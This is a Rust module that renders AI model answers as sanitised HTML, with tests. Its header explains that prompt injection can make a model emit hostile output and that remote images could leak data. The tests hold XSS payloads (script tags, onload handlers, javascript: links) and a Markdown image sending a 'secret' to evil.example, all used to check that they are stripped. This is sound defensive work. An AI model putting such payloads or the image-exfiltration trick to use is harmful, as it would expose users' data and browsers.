//! Model answers as HTML: Markdown with highlighted code, rendered on the server.
//!
//! Model output is untrusted (a prompt injection can make a model write anything), so:
//! raw HTML in the Markdown is shown as text, never parsed; the result then passes an
//! allow-list sanitiser (ammonia), so no script, event handler, style or `javascript:` URL
//! survives even if the Markdown step let one through. Images are dropped: a remote image
//! in an answer would send data to its host the moment the page shows it.

use pulldown_cmark::{html, CodeBlockKind, CowStr, Event, Options, Parser, Tag, TagEnd};
use std::{collections::HashSet, sync::LazyLock};
use syntect::{
    html::{ClassStyle, ClassedHTMLGenerator},
    parsing::SyntaxSet,
    util::LinesWithEndings,
};

static SYNTAXES: LazyLock<SyntaxSet> = LazyLock::new(SyntaxSet::load_defaults_newlines);
static SANITIZER: LazyLock<ammonia::Builder<'static>> = LazyLock::new(sanitizer);

/// Highlighted tokens carry `hl-`-prefixed scope classes; `style/main.css` colours them.
const CLASSES: ClassStyle = ClassStyle::SpacedPrefixed { prefix: "hl-" };
/// Longer code blocks are shown without highlighting: it costs time on every page load.
const MAX_HIGHLIGHTED: usize = 20_000;

/// Renders `markdown` to sanitised HTML.
pub fn to_html(markdown: &str) -> String {
    let mut options = Options::empty();
    options.insert(Options::ENABLE_TABLES);
    options.insert(Options::ENABLE_STRIKETHROUGH);
    let mut events = Vec::new();
    let mut code: Option<(String, String)> = None;
    for event in Parser::new_ext(markdown, options) {
        match (&mut code, event) {
            (None, Event::Start(Tag::CodeBlock(kind))) => {
                let lang = match kind {
                    CodeBlockKind::Fenced(info) => {
                        info.split_whitespace().next().unwrap_or("").to_string()
                    }
                    CodeBlockKind::Indented => String::new(),
                };
                code = Some((lang, String::new()));
            }
            (Some((_, source)), Event::Text(text)) => source.push_str(&text),
            (Some(_), Event::End(TagEnd::CodeBlock)) => {
                if let Some((lang, source)) = code.take() {
                    events.push(Event::Html(CowStr::from(code_block(&lang, &source))));
                }
            }
            (_, Event::Html(raw) | Event::InlineHtml(raw)) => events.push(Event::Text(raw)),
            (_, Event::Start(Tag::Image { .. }) | Event::End(TagEnd::Image)) => {}
            (_, event) => events.push(event),
        }
    }
    let mut out = String::with_capacity(markdown.len() * 3 / 2);
    html::push_html(&mut out, events.into_iter());
    SANITIZER.clean(&out).to_string()
}

/// A fenced block: a header with the language and a copy button, then the code.
fn code_block(lang: &str, source: &str) -> String {
    let label = if lang.is_empty() { "text" } else { lang };
    format!(
        "<div class=\"code-block\"><div class=\"code-head\"><span>{}</span>\
         <button type=\"button\" class=\"copy-code\">Copy</button></div>\
         <pre><code>{}</code></pre></div>",
        escape(label),
        highlight(lang, source)
    )
}

fn highlight(lang: &str, source: &str) -> String {
    let syntax = (!lang.is_empty() && source.len() <= MAX_HIGHLIGHTED)
        .then(|| SYNTAXES.find_syntax_by_token(lang))
        .flatten();
    let Some(syntax) = syntax else {
        return escape(source);
    };
    let mut generator = ClassedHTMLGenerator::new_with_class_style(syntax, &SYNTAXES, CLASSES);
    for line in LinesWithEndings::from(source) {
        if generator
            .parse_html_for_line_which_includes_newline(line)
            .is_err()
        {
            return escape(source);
        }
    }
    generator.finalize()
}

/// Text as HTML element content.
fn escape(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    // Writing into a `String` cannot fail.
    let _ = pulldown_cmark_escape::escape_html(&mut out, text);
    out
}

fn sanitizer() -> ammonia::Builder<'static> {
    let mut builder = ammonia::Builder::default();
    builder
        .rm_tags(["img", "map", "area"])
        .add_tags(["button"])
        .add_tag_attributes("span", ["class"])
        .add_tag_attributes("div", ["class"])
        .add_tag_attributes("button", ["type", "class"])
        .url_schemes(HashSet::from(["http", "https", "mailto"]))
        .link_rel(Some("noopener noreferrer nofollow"));
    builder
}

#[cfg(test)]
mod tests {
    use super::to_html;

    #[test]
    fn renders_common_markdown() {
        let html = to_html("# Title\n\nSome **bold** and `code`.\n\n- one\n- two\n");
        assert!(html.contains("<h1>Title</h1>"), "{html}");
        assert!(html.contains("<strong>bold</strong>"), "{html}");
        assert!(html.contains("<code>code</code>"), "{html}");
        assert!(html.contains("<li>two</li>"), "{html}");
    }

    #[test]
    fn raw_html_is_shown_as_text() {
        let html = to_html("hi <script>alert(1)</script> <b onclick=\"x()\">b</b>");
        assert!(!html.contains("<script"), "{html}");
        assert!(!html.contains("<b "), "{html}");
        assert!(html.contains("&lt;script&gt;"), "{html}");
        assert!(html.contains("&lt;b onclick="), "shown as text: {html}");
    }

    #[test]
    fn block_html_and_event_handlers_do_not_survive() {
        let html = to_html("<div>\n<iframe src=\"https://evil.example\"></iframe>\n</div>\n\n<svg onload=alert(1)>");
        assert!(!html.contains("<iframe"), "{html}");
        assert!(!html.contains("<svg"), "{html}");
        assert!(!html.contains("<div>"), "{html}");
    }

    #[test]
    fn dangerous_links_lose_their_target() {
        let html = to_html(
            "[click](javascript:alert(1)) [data](data:text/html,x) [ok](https://example.com)",
        );
        assert!(!html.contains("javascript:"), "{html}");
        assert!(!html.contains("data:text"), "{html}");
        assert!(html.contains("href=\"https://example.com\""), "{html}");
        assert!(
            html.contains("rel=\"noopener noreferrer nofollow\""),
            "{html}"
        );
    }

    #[test]
    fn images_are_dropped_so_nothing_is_fetched() {
        let html = to_html("![secret](https://evil.example/?q=secret) after");
        assert!(!html.contains("<img"), "{html}");
        assert!(!html.contains("evil.example"), "{html}");
        assert!(html.contains("after"), "{html}");
    }

    #[test]
    fn code_blocks_are_highlighted_and_escaped() {
        let html = to_html("```rust\nfn main() { let s = \"<b>\"; }\n```\n");
        assert!(html.contains("class=\"code-block\""), "{html}");
        assert!(html.contains("<span>rust</span>"), "{html}");
        assert!(
            html.contains("hl-keyword") || html.contains("hl-storage"),
            "{html}"
        );
        assert!(html.contains("&lt;b&gt;"), "{html}");
        assert!(!html.contains("<b>"), "{html}");
    }

    #[test]
    fn unknown_languages_fall_back_to_plain_escaped_code() {
        let html = to_html("```nosuchlang\n<script>x</script>\n```\n");
        assert!(html.contains("<span>nosuchlang</span>"), "{html}");
        assert!(html.contains("&lt;script&gt;"), "{html}");
        assert!(!html.contains("<script>"), "{html}");
    }

    #[test]
    fn a_hostile_language_label_is_escaped() {
        let html = to_html("```\"><script>x</script>\ncode\n```\n");
        assert!(!html.contains("<script>"), "{html}");
    }
}
